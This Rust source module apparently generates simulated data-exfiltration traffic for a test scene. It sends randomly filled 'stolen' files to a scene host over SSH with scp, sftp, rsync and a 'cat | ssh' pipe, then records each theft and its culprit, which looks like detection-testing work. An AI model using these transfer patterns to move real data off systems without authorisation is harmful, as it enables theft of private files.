//! Files that leave through SSH.

use std::fs;

use anyhow::{Context, Result};

use super::size_and_rate;
use crate::random::Random;
use crate::scene::{Outcome, Scene, Target, ensure_arrived};

const SMALLEST: u64 = 20_000;
const LARGEST: u64 = 40_000_000;

pub(crate) fn scp(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let (size, rate) = size_and_rate(random, SMALLEST, LARGEST);
    let target = scene.target(random)?;
    let file = scene.document("stolen", &random.document(size))?;
    let goal = remote(&target, &scene.inbox("got").display().to_string());
    let limit = (rate / 125).max(16).to_string();
    // The old protocol, half the time.
    let protocol = if random.chance(0.5) { "-O" } else { "-s" };
    scene.run(
        "scp",
        &[
            "-F",
            &scene.shared.path("ssh_config"),
            "-q",
            target.family_flag(),
            protocol,
            "-l",
            &limit,
            &file,
            &goal,
        ],
    )?;
    finish(scene, &target, size, format!("{size} bytes at {limit} kbit/s to {}", target.host))
}

pub(crate) fn sftp(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let (size, rate) = size_and_rate(random, SMALLEST, LARGEST);
    let target = scene.target(random)?;
    let file = scene.document("stolen", &random.document(size))?;
    let limit = (rate / 125).max(16).to_string();
    let batch = scene
        .document("batch", format!("put {file} {}\n", scene.inbox("got").display()).as_bytes())?;
    scene.run(
        "sftp",
        &[
            "-F",
            &scene.shared.path("ssh_config"),
            "-q",
            target.family_flag(),
            "-l",
            &limit,
            "-b",
            &batch,
            &remote(&target, ""),
        ],
    )?;
    finish(scene, &target, size, format!("{size} bytes at {limit} kbit/s to {}", target.host))
}

pub(crate) fn rsync(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let (size, rate) = size_and_rate(random, SMALLEST, LARGEST);
    let target = scene.target(random)?;
    let file = scene.document("stolen", &random.document(size))?;
    let goal = remote(&target, &scene.inbox("got").display().to_string());
    let shell = format!("ssh {} -F {}", target.family_flag(), scene.shared.path("ssh_config"));
    let limit = format!("--bwlimit={}", (rate / 1_000).max(2));
    let mut arguments = vec!["-a", "-e", &shell, &limit, &file, &goal];
    if random.chance(0.4) {
        arguments.insert(0, "-z");
    }
    scene.run("rsync", &arguments)?;
    finish(scene, &target, size, format!("{size} bytes with {limit} to {}", target.host))
}

/// `cat FILE | ssh HOST 'cat > FILE'`, the way without any copying tool.
pub(crate) fn pipe(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let (size, _) = size_and_rate(random, SMALLEST, LARGEST);
    let target = scene.target(random)?;
    let file = scene.document("stolen", &random.document(size))?;
    let goal = scene.inbox("got");
    let command = format!(
        "cat {file} | ssh {} -F {} {} 'cat > {}'",
        target.family_flag(),
        scene.shared.path("ssh_config"),
        target.host,
        goal.display()
    );
    scene.run("sh", &["-c", &command])?;
    finish(scene, &target, size, format!("{size} bytes to {}", target.host))
}

fn finish(scene: &Scene<'_>, target: &Target, size: usize, notes: String) -> Result<Outcome> {
    let arrived = fs::metadata(scene.inbox("got")).context("nothing arrived")?.len();
    ensure_arrived(size, arrived as usize)?;
    Ok(Outcome::stolen(scene.culprit(target, "tcp", Some(22))?, size, notes))
}

/// `root@HOST:PATH`, as scp, sftp and rsync take it.
fn remote(target: &Target, path: &str) -> String {
    format!("root@{}:{path}", target.url_host())
}
